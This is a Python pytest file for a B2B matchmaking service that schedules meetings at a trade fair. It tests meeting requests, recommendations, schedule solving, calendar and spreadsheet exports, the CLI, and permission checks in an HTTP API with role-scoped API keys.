"""B2B meeting events: creation, requests, recommendations, schedule, exports, CLI and API."""

from __future__ import annotations

import re
from collections import Counter
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from matcher import scheduling
from matcher.constraints import Constraints
from service import events as ev
from service.catalogue import Catalogue, ingest, suggest, suggest_many
from service.events import (
    DuplicateRequestError,
    EventService,
    InvalidFieldsError,
    SlotPlan,
    TransitionError,
)
from service.settings import Settings
from tests.conftest import FakeEncoder, cli_invoker, record

PROFILES = [
    record("tn-1", description="Nabeul pottery workshop, glazed ceramics", offers="glazed pottery; small series",
           needs="distributor in Europe for ceramics"),
    record("tn-2", description="El Djem mosaics workshop", offers="stone mosaics; mosaic tables",
           needs="design shops in Europe for mosaics", sectors="crafts;furniture_interior"),
    record("ma-1", country="MA", city="Fès", description="Zellige tiles from Fès", offers="zellige tiles",
           needs="architects and distributors in Europe for zellige"),
    record("lb-1", country="LB", city="Beirut", sectors="jewellery", description="Beirut jewellery designers",
           offers="silver jewellery", needs="concept stores in Europe for jewellery"),
    record("fr-1", country="FR", city="Lyon", description="Distributor of Mediterranean ceramics in Europe",
           offers="distributor in Europe for ceramics", needs="glazed pottery small series"),
    record("it-1", country="IT", city="Milano", sectors="furniture_interior", description="Design shop in Milan",
           offers="design shops in Europe for mosaics", needs="stone mosaics and zellige tiles"),
    record("es-1", country="ES", city="Barcelona", sectors="jewellery;crafts", description="Concept store",
           offers="concept stores in Europe for jewellery", needs="silver jewellery and pottery"),
    record("de-1", country="DE", city="Berlin", description="Museum shop in Berlin, ceramics and pottery",
           offers="distributor in Europe for ceramics", needs="glazed pottery small series"),
]
MEMBERS = ["tn-1", "tn-2", "ma-1", "lb-1", "fr-1", "it-1", "es-1"]  # de-1 is in the catalogue, not the event
DAY = date(2031, 12, 1)  # a future fair: past days are refused without --allow-past


@pytest.fixture
def catalogue(tmp_path: Path) -> Catalogue:
    cat = Catalogue.open(Settings(db=str(tmp_path / "events.db")), encoder=FakeEncoder())
    report = ingest(cat, PROFILES, atomic=True)
    assert not report.errors
    return cat


@pytest.fixture
def svc(catalogue: Catalogue) -> EventService:
    return EventService(catalogue)


def plan(**kw: object) -> SlotPlan:
    base: dict[str, object] = {"days": (DAY,), "morning_start": time(9), "morning_end": time(11),
                               "afternoon_start": time(14), "afternoon_end": time(15), "slot_minutes": 30}
    base.update(kw)
    return SlotPlan(**base)  # type: ignore[arg-type]


def rows(ids: list[str] = MEMBERS, **extra: dict[str, object]) -> list[dict[str, object]]:
    return [{"profile_id": pid, "forbidden_slots": "", "max_meetings": "", "stand": "", **extra.get(pid, {})}
            for pid in ids]


def make_event(svc: EventService, *, tables: int = 3, ids: list[str] = MEMBERS, **kw: object) -> int:
    extra = kw.pop("extra", {})
    return ev.create_event(svc, name="CAT 2026 B2B", venue="Palais des Congrès, Tunis", timezone="Africa/Tunis",
                            plan=kw.pop("plan", plan()), tables=tables, participants=rows(ids, **extra))  # type: ignore


# --- creation -------------------------------------------------------------------------------------
def test_slots_are_wall_clock_times_in_the_event_timezone(svc: EventService) -> None:
    two_days = plan(days=(DAY, DAY + timedelta(days=1)), break_minutes=10)
    data = ev.event(svc, make_event(svc, plan=two_days))
    # 09:00-11:00 with 30' + 10' break: 09:00, 09:40, 10:20; 14:00-15:00: 14:00 (14:40 would end 15:10)
    assert len(data.slots) == 8
    first, afternoon = data.slots[0], data.slots[3]
    assert first.start == datetime(2031, 12, 1, 8, 0, tzinfo=UTC)  # Tunis is UTC+1
    assert first.end - first.start == timedelta(minutes=30) and first.session == "morning"
    assert data.slots[1].start == datetime(2031, 12, 1, 8, 40, tzinfo=UTC)
    assert afternoon.start == datetime(2031, 12, 1, 13, 0, tzinfo=UTC) and afternoon.session == "afternoon"
    assert data.slots[4].start == datetime(2031, 12, 2, 8, 0, tzinfo=UTC)
    assert [s.index for s in data.slots] == list(range(8))
    assert data.event.timezone == "Africa/Tunis" and [t.number for t in data.tables] == [1, 2, 3]


def test_dst_in_europe_paris() -> None:
    summer = SlotPlan(days=(date(2026, 7, 1),), morning_start=time(9), morning_end=time(10),
                      afternoon_start=None, afternoon_end=None)
    assert summer.slots("Europe/Paris")[0].start == datetime(2026, 7, 1, 7, 0, tzinfo=UTC)


def test_bad_plans_and_timezones(svc: EventService) -> None:
    with pytest.raises(ValueError, match="before its end"):
        plan(morning_start=time(12), morning_end=time(9))
    with pytest.raises(ValueError, match="'days' is empty"):
        plan(days=())
    with pytest.raises(ValueError, match="unknown IANA timezone"):
        ev.create_event(svc, name="x", venue="", timezone="Africa/Tunisia", plan=plan(), tables=2, participants=rows())


def test_participant_rows_are_checked_and_nothing_is_written(svc: EventService) -> None:
    bad: list[dict[str, object]] = [*rows(["tn-1", "fr-1"]),
           {"profile_id": "zz-404", "forbidden_slots": "", "max_meetings": "", "stand": ""},
           {"profile_id": "ma-1", "forbidden_slots": "2;99", "max_meetings": "many", "stand": "7"},
           {"profile_id": "tn-1", "forbidden_slots": "x", "max_meetings": "", "stand": ""},
           {"profile_id": "it-1", "forbidden_slots": "", "max_meetings": "", "stand": "1"},
           {"profile_id": "es-1", "forbidden_slots": "", "max_meetings": "", "stand": "1"}]
    with pytest.raises(InvalidFieldsError) as exc:
        ev.create_event(svc, name="x", venue="", timezone="Africa/Tunis", plan=plan(), tables=3, participants=bad)
    text = [str(e) for e in exc.value.errors]
    assert "row 3 id 'zz-404': field 'profile_id' = 'zz-404': unknown profile id" in text[0]
    assert any("row 4" in t and "slot 99 does not exist: slots are numbered 1 to 6" in t for t in text)
    assert any("row 4" in t and "'max_meetings'" in t for t in text)
    assert any("row 4" in t and "table 7 does not exist" in t for t in text)
    assert any("row 5" in t and "duplicate participant (first on row 1)" in t for t in text)
    assert any("row 5" in t and "'x' is not a slot number" in t for t in text)
    assert any("row 7" in t and "already the stand of 'it-1' (row 6)" in t for t in text)
    from storage.events import list_events
    assert list_events(svc.engine) == []


def test_participants_forbidden_slots_are_one_based(svc: EventService) -> None:
    extra = {"tn-1": {"forbidden_slots": "1; 6", "max_meetings": "2", "stand": "3"}}
    data = ev.event(svc, make_event(svc, extra=extra))
    tn1 = next(p for p in data.participants if p.profile_id == "tn-1")
    assert tn1.forbidden == frozenset({0, 5}) and tn1.max_meetings == 2 and tn1.stand == 3


# --- requests -------------------------------------------------------------------------------------
def test_request_state_machine(svc: EventService) -> None:
    eid = make_event(svc)
    r = ev.request(svc, eid, "tn-1", "fr-1", priority="must", message="Nos plats, vos boutiques ?")
    assert (r.state, r.priority, r.decided_by) == ("pending", "must", None)
    with pytest.raises(DuplicateRequestError):
        ev.request(svc, eid, "fr-1", "tn-1")  # same pair, other direction
    with pytest.raises(ValueError, match="cannot request a meeting with itself"):
        ev.request(svc, eid, "tn-1", "tn-1")
    with pytest.raises(ValueError, match="not a participant"):
        ev.request(svc, eid, "tn-1", "de-1")
    with pytest.raises(ValueError, match="'priority'"):
        ev.request(svc, eid, "tn-1", "it-1", priority="urgent")
    with pytest.raises(TransitionError, match="only its addressee"):
        ev.accept(svc, r.id, by="tn-1")  # the sender cannot accept its own request
    assert ev.accept(svc, r.id, by="fr-1").state == "accepted"
    with pytest.raises(TransitionError, match="is accepted; only a pending request"):
        ev.decline(svc, r.id, as_organiser=True)
    with pytest.raises(TransitionError, match="only its sender"):
        ev.cancel(svc, r.id, by="fr-1")
    assert ev.cancel(svc, r.id, by="tn-1").state == "cancelled"
    with pytest.raises(TransitionError, match="is cancelled"):
        ev.accept(svc, r.id, by="fr-1")
    again = ev.request(svc, eid, "fr-1", "tn-1")  # a cancelled request does not block the pair
    declined = ev.decline(svc, again.id, as_organiser=True)
    assert (declined.state, declined.decided_by) == ("declined", "organiser")
    with pytest.raises(ValueError, match="either a participant id or the organiser"):
        ev.accept(svc, again.id, by="tn-1", as_organiser=True)


def test_expiry(svc: EventService) -> None:
    eid = make_event(svc)
    deadline = datetime(2026, 11, 25, 18, 0, tzinfo=UTC)
    a = ev.request(svc, eid, "tn-1", "fr-1", expires_at=deadline)
    b = ev.request(svc, eid, "tn-2", "it-1", expires_at=deadline)
    c = ev.request(svc, eid, "ma-1", "it-1")
    assert ev.expire(svc, deadline - timedelta(minutes=1)) == []
    assert ev.expire(svc, deadline) == [a.id, b.id]
    assert ev.get_request(svc, a.id).state == "expired" and ev.get_request(svc, c.id).state == "pending"
    with pytest.raises(TransitionError, match="is expired"):
        ev.accept(svc, a.id, by="fr-1")
    late = ev.request(svc, eid, "lb-1", "es-1", expires_at=deadline)  # accepting after the deadline fails too
    with pytest.raises(TransitionError, match="expired at"):
        ev.accept(svc, late.id, by="es-1", now=deadline + timedelta(hours=1))
    assert ev.get_request(svc, late.id).state == "expired"
    with pytest.raises(ValueError, match="timezone-aware"):
        ev.expire(svc, datetime(2026, 11, 25))


def test_import_requests_all_or_nothing(svc: EventService) -> None:
    eid = make_event(svc)
    ev.request(svc, eid, "tn-1", "fr-1")
    bad = [{"from_id": "tn-2", "to_id": "it-1", "priority": "must", "message": "", "state": "accepted"},
           {"from_id": "fr-1", "to_id": "tn-1", "priority": "", "message": "", "state": ""},
           {"from_id": "lb-1", "to_id": "de-1", "priority": "want", "message": "", "state": ""},
           {"from_id": "ma-1", "to_id": "it-1", "priority": "soon", "message": "", "state": "maybe"},
           {"from_id": "it-1", "to_id": "tn-2", "priority": "", "message": "", "state": ""}]
    with pytest.raises(InvalidFieldsError) as exc:
        ev.import_requests(svc, eid, bad)
    text = "\n".join(str(e) for e in exc.value.errors)
    assert "row 2 id 'fr-1 -> tn-1': field 'to_id' = 'tn-1': this pair already has an active request" in text
    assert "row 3 id 'lb-1 -> de-1': field 'to_id' = 'de-1': not a participant" in text
    assert "row 4" in text and "'priority' = 'soon'" in text and "'state' = 'maybe'" in text
    assert "row 5" in text and "duplicate pair (first on row 1)" in text
    assert len(ev.list_requests(svc, eid)) == 1
    added = ev.import_requests(svc, eid, [bad[0], bad[3] | {"priority": "want", "state": ""}])
    assert [(r.state, r.decided_by) for r in added] == [("accepted", "organiser"), ("pending", None)]


# --- recommendations ------------------------------------------------------------------------------
def test_recommendations_stay_in_the_event_with_mutual_first(svc: EventService) -> None:
    eid = make_event(svc)
    recs = ev.recommend(svc, eid, k=3)
    assert {r.participant for r in recs} <= set(MEMBERS) and {r.partner for r in recs} <= set(MEMBERS)
    assert all(r.participant != r.partner for r in recs)
    by: dict[str, list] = {}
    for r in recs:
        by.setdefault(r.participant, []).append(r)
    assert all(len(v) <= 3 for v in by.values())
    listed = {(r.participant, r.partner) for r in recs}
    for pid, mine in by.items():
        flags = [r.mutual for r in mine]
        assert flags == sorted(flags, reverse=True), f"{pid}: mutual matches must come first"
        for r in mine:
            assert r.mutual == ((r.partner, pid) in listed)
            assert r.reason
    assert any(r.mutual for r in recs)
    # de-1 is the closest profile to tn-1 in the catalogue but is not a participant
    assert "de-1" in [s.id for s in suggest(svc.catalogue, "tn-1", k=3, allow_same_country=True).suggestions]


def test_prefill_creates_one_request_per_pair_and_skips_existing(svc: EventService) -> None:
    eid = make_event(svc)
    recs = ev.recommend(svc, eid, k=2)
    first = recs[0]
    existing = ev.request(svc, eid, first.partner, first.participant)
    created = ev.prefill(svc, eid, k=2)
    pairs = [frozenset((r.from_id, r.to_id)) for r in created]
    assert len(pairs) == len(set(pairs)) and frozenset((first.participant, first.partner)) not in pairs
    assert set(pairs) == {frozenset((r.participant, r.partner)) for r in recs} - {existing.pair}
    assert all(r.state == "pending" and r.score is not None and r.reason for r in created)
    assert ev.prefill(svc, eid, k=2) == []


# --- scheduling -----------------------------------------------------------------------------------
@pytest.fixture
def captured(monkeypatch: pytest.MonkeyPatch) -> list[tuple[scheduling.Instance, scheduling.Schedule]]:
    """Every (instance, schedule) the service solves."""
    seen: list[tuple[scheduling.Instance, scheduling.Schedule]] = []
    import service.events.scheduling as module

    def spy(instance: scheduling.Instance, **kw: object) -> scheduling.Schedule:
        result = scheduling.solve(instance, **kw)  # type: ignore[arg-type]
        seen.append((instance, result))
        return result

    monkeypatch.setattr(module, "solve", spy)
    return seen


def accept_all(svc: EventService, eid: int) -> None:
    for r in ev.list_requests(svc, eid, ("pending",)):
        ev.accept(svc, r.id, as_organiser=True)


def check_stored(svc: EventService, eid: int) -> None:
    data = ev.event(svc, eid)
    reqs = {r.id: r for r in ev.list_requests(svc, eid)}
    forbidden = {p.profile_id: p.forbidden for p in data.participants}
    busy: Counter[tuple[str, int]] = Counter()
    tables: Counter[tuple[int, int]] = Counter()
    for a in ev.assignments(svc, eid):
        r = reqs[a.request_id]
        assert r.state == "accepted"
        for pid in (r.from_id, r.to_id):
            busy[(pid, a.slot)] += 1
            assert a.slot not in forbidden[pid]
        tables[(a.slot, a.table)] += 1
    assert max(busy.values(), default=1) == 1 and max(tables.values(), default=1) == 1


def test_schedule_passes_the_scheduler_validation(svc: EventService, captured) -> None:
    eid = make_event(svc, tables=2, extra={"tn-1": {"forbidden_slots": "1;2", "stand": "2"}})
    ev.prefill(svc, eid, k=3)
    accept_all(svc, eid)
    summary = ev.schedule(svc, eid, time_limit=10)
    instance, result = captured[-1]
    assert scheduling.validate(instance, result, fairness=2) == []
    assert summary.status in ("optimal", "feasible") and summary.stored
    assert summary.requested == len(ev.list_requests(svc, eid, ("accepted",))) == len(instance.meetings)
    assert summary.held + len(summary.left_out) == summary.requested
    assert summary.held == len(ev.assignments(svc, eid)) > 0
    check_stored(svc, eid)
    tn1 = {r.id for r in ev.list_requests(svc, eid) if "tn-1" in (r.from_id, r.to_id)}
    assert all(a.table == 2 for a in ev.assignments(svc, eid) if a.request_id in tn1)  # tn-1 hosts at its stand


def test_oversubscription_keeps_musts_and_covers_everyone(svc: EventService, captured) -> None:
    two_slots = plan(morning_end=time(10), afternoon_start=None, afternoon_end=None)  # 2 slots
    eid = make_event(svc, tables=2, plan=two_slots, ids=["tn-1", "tn-2", "ma-1", "fr-1", "it-1", "es-1"])
    for a, b, prio in [("fr-1", "tn-1", "must"), ("fr-1", "tn-2", "must"), ("fr-1", "ma-1", "want"),
                       ("fr-1", "it-1", "want"), ("fr-1", "es-1", "want"), ("it-1", "tn-2", "want"),
                       ("es-1", "ma-1", "want")]:
        ev.request(svc, eid, a, b, priority=prio)
    accept_all(svc, eid)
    summary = ev.schedule(svc, eid, time_limit=10)
    instance, result = captured[-1]
    assert scheduling.validate(instance, result, fairness=2) == []
    assert summary.must_held == summary.must_requested == 2
    assert all(x.priority == "want" and x.reason for x in summary.left_out)
    reqs = {r.id: r for r in ev.list_requests(svc, eid)}
    met = {p for a in ev.assignments(svc, eid) for p in (reqs[a.request_id].from_id, reqs[a.request_id].to_id)}
    assert met == {"tn-1", "tn-2", "ma-1", "fr-1", "it-1", "es-1"}  # nobody left with no meeting
    assert all("participant 'fr-1'" in x.reason and not re.search(r"participants? \d", x.reason)
               for x in summary.left_out)  # indices are translated to profile ids


def test_max_meetings_leaves_lowest_priority_out(svc: EventService) -> None:
    eid = make_event(svc, extra={"fr-1": {"max_meetings": "1"}})
    must = ev.request(svc, eid, "fr-1", "tn-1", priority="must")
    want = ev.request(svc, eid, "fr-1", "ma-1", priority="want")
    accept_all(svc, eid)
    summary = ev.schedule(svc, eid, time_limit=5)
    assert [a.request_id for a in ev.assignments(svc, eid)] == [must.id]
    assert [(x.request_id, x.priority) for x in summary.left_out] == [(want.id, "want")]
    assert "maximum of 1 meeting(s)" in summary.left_out[0].reason


def test_rescheduling_replaces_and_cancelling_frees_the_slot(svc: EventService) -> None:
    eid = make_event(svc)
    a = ev.request(svc, eid, "tn-1", "fr-1")
    b = ev.request(svc, eid, "tn-2", "it-1")
    accept_all(svc, eid)
    ev.schedule(svc, eid, time_limit=5)
    assert {x.request_id for x in ev.assignments(svc, eid)} == {a.id, b.id}
    ev.cancel(svc, b.id, by="tn-2")
    assert {x.request_id for x in ev.assignments(svc, eid)} == {a.id}
    ev.schedule(svc, eid, time_limit=5)
    assert {x.request_id for x in ev.assignments(svc, eid)} == {a.id}


# --- exports --------------------------------------------------------------------------------------
def scheduled_event(svc: EventService) -> int:
    eid = make_event(svc, tables=2)
    ev.request(svc, eid, "tn-1", "fr-1", priority="must", message="Dîner, puis visite; à bientôt")
    ev.request(svc, eid, "tn-1", "it-1")
    ev.request(svc, eid, "ma-1", "it-1")
    accept_all(svc, eid)
    ev.schedule(svc, eid, time_limit=5)
    return eid


def test_ics_folds_long_arabic_lines_whole_characters_and_round_trips(svc: EventService,
                                                                       catalogue: Catalogue) -> None:
    import icalendar

    long_name = "تعاونية الفخار الأزرق بآسفي, Safi; « poterie » " * 3
    stored_as_is(catalogue, **{"fr-1": long_name.strip()})
    eid = scheduled_event(svc)
    raw = ev.ics(svc, eid, "tn-1")
    lines = raw.split(b"\r\n")
    assert all(len(x) <= 75 for x in lines) and all(isinstance(x.decode("utf-8"), str) for x in lines)  # whole chars
    assert any(x.startswith(b" ") for x in lines)  # folded
    summaries = {str(e["SUMMARY"]) for e in icalendar.Calendar.from_ical(raw).walk("VEVENT")}
    assert f"Meeting with {long_name.strip()}" in summaries
    assert b"Safi\\; " in raw.replace(b"\r\n ", b"")  # escaped by the library


def test_export_agendas_ics_grid_and_summary(svc: EventService, tmp_path: Path) -> None:
    import icalendar

    eid = scheduled_event(svc)
    data = ev.event(svc, eid)
    files = ev.export(svc, eid, tmp_path / "out", now=datetime(2026, 11, 30, 12, 0, tzinfo=UTC))
    assert all(f.exists() for f in files)
    agenda = pd.read_csv(tmp_path / "out" / "agendas" / "tn-1.csv", encoding="utf-8-sig", dtype=str)
    assert sorted(agenda["partner_id"]) == ["fr-1", "it-1"] and list(agenda["slot"]) == sorted(agenda["slot"])
    raw = (tmp_path / "out" / "agendas" / "tn-1.ics").read_bytes()
    assert raw.count(b"\r\n") == raw.count(b"\n") and all(len(x) <= 75 for x in raw.split(b"\r\n"))
    cal = icalendar.Calendar.from_ical(raw)
    vevents = [c for c in cal.walk("VEVENT")]
    assert len(vevents) == 2
    slots = {s.index + 1: s for s in data.slots}
    by_partner = {row.partner_id: row for row in agenda.itertuples()}
    for vevent in vevents:
        summary = str(vevent["SUMMARY"])
        partner = "fr-1" if "Org fr-1" in summary else "it-1"
        assert summary == f"Meeting with Org {partner}"
        slot = slots[int(by_partner[partner].slot)]
        assert vevent.decoded("DTSTART") == slot.start and vevent.decoded("DTEND") == slot.end
        assert vevent["DTSTART"].to_ical() == slot.start.strftime("%Y%m%dT%H%M%SZ").encode()
        assert str(vevent["LOCATION"]) == f"Table {by_partner[partner].table}, Palais des Congrès, Tunis"
        assert "Why:" in str(vevent["DESCRIPTION"]) and str(vevent["UID"])
    fr = next(v for v in vevents if "fr-1" in str(v["SUMMARY"]))
    assert "Dîner, puis visite; à bientôt" in str(fr["DESCRIPTION"])
    assert "Dîner\\, puis visite\\; à bientôt" in raw.decode().replace("\r\n ", "")
    # the organiser's grid, as CSV and Excel, and the summary
    grid = pd.read_csv(tmp_path / "out" / "grid.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(grid.columns) == ["slot", "start", "end", "session", "Table 1", "Table 2"]
    assert grid["start"][0] == "2031-12-01 09:00" and grid["end"][0] == "09:30"
    cells = [c for t in ("Table 1", "Table 2") for c in grid[t] if c]
    assert sorted(cells) == sorted(["Org tn-1 × Org fr-1", "Org tn-1 × Org it-1", "Org ma-1 × Org it-1"])
    xl = pd.read_excel(tmp_path / "out" / "grid.xlsx", sheet_name=None, dtype=str, keep_default_na=False)
    assert set(xl) == {"grid", "participants", "table use"} and xl["grid"].equals(grid)
    summary = pd.read_csv(tmp_path / "out" / "summary.csv", encoding="utf-8-sig").set_index("profile_id")
    assert summary.loc["tn-1", "held"] == summary.loc["tn-1", "requested"] == 2
    assert summary.loc["es-1", "held"] == 0 and "breaks" in summary.columns
    use = pd.read_csv(tmp_path / "out" / "table_use.csv", encoding="utf-8-sig")
    assert use["tables_used"].sum() == 3 and (use["tables"] == 2).all()


def test_agenda_reason_is_from_the_participants_side(svc: EventService) -> None:
    eid = scheduled_event(svc)
    mine = ev.agenda(svc, eid, "fr-1")
    assert [x.partner_id for x in mine] == ["tn-1"] and mine[0].reason and mine[0].priority == "must"
    assert b"BEGIN:VEVENT" in ev.ics(svc, eid, "fr-1")


# --- CLI ------------------------------------------------------------------------------------------
@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], catalogue: Catalogue):

    from service.cli import common

    monkeypatch.setattr(common, "open_catalogue", lambda db: catalogue)
    return cli_invoker(monkeypatch, capsys, "event")


def test_cli_end_to_end(run, tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    pd.DataFrame(rows(extra={"tn-1": {"forbidden_slots": "6"}})).to_csv(people, index=False)
    code, out, err = run("create", "CAT 2026", "--participants", str(people), "--days", "2031-12-01",
                         "--morning", "09:00-11:00", "--afternoon", "14:00-15:00", "--slot-minutes", "30",
                         "--tables", "3", "--venue", "Palais des Congrès", "--timezone", "Africa/Tunis")
    assert code == 0, err
    eid = out.strip()
    reqs = tmp_path / "reqs.csv"
    pd.DataFrame([{"from_id": "tn-1", "to_id": "fr-1", "priority": "must", "message": "hello", "state": ""},
                  {"from_id": "ma-1", "to_id": "it-1", "priority": "want", "message": "", "state": "accepted"}]
                 ).to_csv(reqs, index=False)
    code, out, err = run("requests", eid, "--import", str(reqs))
    assert code == 0 and "2 request(s) imported" in err and "tn-1 -> fr-1 (must) pending" in out
    code, out, _ = run("request", eid, "lb-1", "es-1", "--priority", "want", "--message", "bonjour")
    assert code == 0 and "lb-1 -> es-1 (want) pending" in out
    code, _, err = run("accept", "1")
    assert code == 2 and "--by PROFILE_ID or --as-organiser" in err
    code, _, err = run("accept", "1", "--by", "tn-1")
    assert code == 2 and "only its addressee (fr-1)" in err
    assert run("accept", "1", "--by", "fr-1")[0] == 0
    assert run("decline", "3", "--as-organiser")[0] == 0
    code, out, _ = run("recommend", eid, "--k", "2", "--prefill")
    assert code == 0 and "pending request(s) created" in out
    code, out, _ = run("schedule", eid, "--time-limit", "5", "--json")
    import json
    result = json.loads(out)
    assert code == 0 and result["held"] == 2 and result["status"] in ("optimal", "feasible")
    code, out, _ = run("export", eid, "--out", str(tmp_path / "x"))
    assert code == 0 and (tmp_path / "x" / "agendas" / "tn-1.ics").exists()
    code, _, err = run("schedule", "99")
    assert code == 2 and "no event with id 99" in err


def test_cli_reports_bad_participant_rows(run, tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    pd.DataFrame([*rows(["tn-1"]), {"profile_id": "nobody", "forbidden_slots": "0", "max_meetings": "",
                                    "stand": ""}]).to_csv(people, index=False)
    code, _, err = run("create", "X", "--participants", str(people), "--days", "2031-12-01")
    assert code == 1 and "row 2 id 'nobody': field 'profile_id'" in err and "slot 0 does not exist" in err
    assert "nothing was written" in err
    code, _, err = run("create", "X", "--participants", str(people), "--days", "01/12/2026")
    assert code == 2 and "--days" in err


# --- HTTP API -------------------------------------------------------------------------------------
@pytest.fixture
def api(tmp_path: Path, catalogue: Catalogue):
    from fastapi.testclient import TestClient

    from service.http import create_app
    from storage.keys import create_key

    settings = Settings(db=str(tmp_path / "events.db"), open_reads=True)
    app = create_app(settings, catalogue=catalogue)
    headers = {role: {"X-API-Key": create_key(catalogue.engine, role)}
               for role in ("reader", "editor", "organiser", "admin")}
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, headers


EVENT_BODY = {"name": "CAT 2026 B2B", "venue": "Palais des Congrès, Tunis", "timezone": "Africa/Tunis",
              "days": ["2031-12-01"], "morning_start": "09:00", "morning_end": "11:00", "afternoon_start": None,
              "afternoon_end": None, "slot_minutes": 30, "tables": 2,
              "participants": [{"profile_id": p} for p in MEMBERS]}


def test_api_event_flow(api, tmp_path: Path) -> None:
    import icalendar

    client, h = api
    assert client.post("/events", json=EVENT_BODY).status_code == 401
    assert client.post("/events", json=EVENT_BODY, headers=h["reader"]).status_code == 403
    assert client.post("/events", json=EVENT_BODY, headers=h["editor"]).status_code == 403
    r = client.post("/events", json=EVENT_BODY, headers=h["organiser"])
    assert r.status_code == 201, r.text
    event = r.json()
    eid = event["id"]
    assert event["slots"][0]["start"] == "2031-12-01T08:00:00+00:00" and len(event["slots"]) == 4
    bad = client.post("/events", json=EVENT_BODY | {"participants": [{"profile_id": "zz"}]}, headers=h["organiser"])
    assert bad.status_code == 422 and "unknown profile id" in bad.json()["detail"][0]["msg"]
    r = client.post(f"/events/{eid}/requests", json={"from_id": "tn-1", "to_id": "fr-1", "priority": "must"},
                    headers=h["organiser"])
    assert r.status_code == 201 and r.json()["state"] == "pending"
    rid = r.json()["id"]
    dup = client.post(f"/events/{eid}/requests", json={"from_id": "fr-1", "to_id": "tn-1"}, headers=h["organiser"])
    assert dup.status_code == 409
    path = tmp_path / "r.csv"
    pd.DataFrame([{"from_id": "ma-1", "to_id": "it-1", "priority": "want", "message": "", "state": "accepted"}]
                 ).to_csv(path, index=False)
    with path.open("rb") as f:
        imported = client.post(f"/events/{eid}/requests/import", files={"file": ("r.csv", f, "text/csv")},
                               headers=h["organiser"])
    assert imported.status_code == 201 and imported.json()[0]["state"] == "accepted"
    wrong = client.post(f"/events/{eid}/requests/{rid}/accept", json={"by": "tn-1"}, headers=h["organiser"])
    assert wrong.status_code == 409 and "only its addressee" in wrong.json()["detail"]
    ok = client.post(f"/events/{eid}/requests/{rid}/accept", json={"by": "fr-1"}, headers=h["organiser"])
    assert ok.status_code == 200 and ok.json()["state"] == "accepted"
    assert client.post(f"/events/{eid}/requests/{rid}/decline", json={"as_organiser": True},
                       headers=h["organiser"]).status_code == 409
    assert client.post(f"/events/{eid + 1}/requests/{rid}/accept", json={"as_organiser": True},
                       headers=h["organiser"]).status_code == 404
    recs = client.get(f"/events/{eid}/recommendations?k=2", headers=h["organiser"])
    assert recs.status_code == 200 and {x["partner"] for x in recs.json()} <= set(MEMBERS)
    assert client.post(f"/events/{eid}/prefill?k=1", headers=h["organiser"]).status_code == 201
    s = client.post(f"/events/{eid}/schedule?time_limit=5", headers=h["organiser"])
    assert s.status_code == 200 and s.json()["held"] == 2, s.text
    grid = client.get(f"/events/{eid}/grid", headers=h["organiser"]).json()
    assert len(grid) == 4 and sum(bool(row["Table 1"]) + bool(row["Table 2"]) for row in grid) == 2
    assert client.get(f"/events/{eid}/participants/tn-1/agenda").status_code == 401  # even in demo mode
    agenda = client.get(f"/events/{eid}/participants/tn-1/agenda", headers=h["organiser"]).json()
    assert [x["partner_id"] for x in agenda] == ["fr-1"]
    ics = client.get(f"/events/{eid}/participants/tn-1/agenda.ics", headers=h["organiser"])
    assert ics.status_code == 200 and ics.headers["content-type"].startswith("text/calendar")
    ev = next(iter(icalendar.Calendar.from_ical(ics.content).walk("VEVENT")))
    assert str(ev["SUMMARY"]) == "Meeting with Org fr-1"
    assert ev.decoded("DTSTART").isoformat() == agenda[0]["start"]
    assert client.get(f"/events/{eid}/participants/de-1/agenda", headers=h["organiser"]).status_code == 404
    assert client.get("/events/999/grid", headers=h["organiser"]).status_code == 404


def test_api_keys_scoped_to_an_event_and_a_participant(api) -> None:
    """A participant key sees and acts on its own requests and agenda only; an organiser key bound to one
    event cannot touch another; reader and editor keys have no access to events."""
    from storage.keys import create_key

    client, h = api
    engine = client.app.state.catalogue.engine
    eid = client.post("/events", json=EVENT_BODY, headers=h["organiser"]).json()["id"]
    other = client.post("/events", json=EVENT_BODY | {"name": "Other fair"}, headers=h["organiser"]).json()["id"]
    tn1 = {"X-API-Key": create_key(engine, "participant", event_id=eid, profile_id="tn-1")}
    fr1 = {"X-API-Key": create_key(engine, "participant", event_id=eid, profile_id="fr-1")}
    org = {"X-API-Key": create_key(engine, "organiser", event_id=eid)}

    # requests: only from one's own profile; the answer only by the addressee; lists show one's own
    assert client.post(f"/events/{eid}/requests", json={"from_id": "fr-1", "to_id": "ma-1"},
                       headers=tn1).status_code == 403
    rid = client.post(f"/events/{eid}/requests", json={"from_id": "tn-1", "to_id": "fr-1"}, headers=tn1).json()["id"]
    client.post(f"/events/{eid}/requests", json={"from_id": "ma-1", "to_id": "it-1"}, headers=h["organiser"])
    assert [r["id"] for r in client.get(f"/events/{eid}/requests", headers=tn1).json()] == [rid]
    assert len(client.get(f"/events/{eid}/requests", headers=org).json()) == 2
    assert client.post(f"/events/{eid}/requests/{rid}/accept", json={"as_organiser": True},
                       headers=fr1).status_code == 403
    assert client.post(f"/events/{eid}/requests/{rid}/accept", json={"by": "tn-1"}, headers=fr1).status_code == 403
    assert client.post(f"/events/{eid}/requests/{rid}/accept", json={}, headers=tn1).status_code == 409  # not addressee
    assert client.post(f"/events/{eid}/requests/{rid}/accept", json={}, headers=fr1).json()["state"] == "accepted"

    # organiser-only operations, and the organiser key bound to its event
    for method, path in (("post", f"/events/{eid}/schedule?time_limit=5"), ("get", f"/events/{eid}/grid"),
                         ("post", f"/events/{eid}/prefill?k=1")):
        assert getattr(client, method)(path, headers=tn1).status_code == 403
    assert client.post(f"/events/{eid}/schedule?time_limit=5", headers=org).status_code == 200
    assert client.get(f"/events/{other}/grid", headers=org).status_code == 403
    assert client.post("/events", json=EVENT_BODY, headers=org).status_code == 403
    assert client.get(f"/events/{other}", headers=tn1).status_code == 403

    # agendas: one's own only; recommendations: one's own rows only
    assert [m["partner_id"] for m in client.get(f"/events/{eid}/participants/tn-1/agenda", headers=tn1).json()] \
        == ["fr-1"]
    assert client.get(f"/events/{eid}/participants/fr-1/agenda", headers=tn1).status_code == 403
    assert client.get(f"/events/{eid}/participants/fr-1/agenda.ics", headers=tn1).status_code == 403
    assert client.get(f"/events/{eid}/participants/fr-1/agenda.ics", headers=fr1).status_code == 200
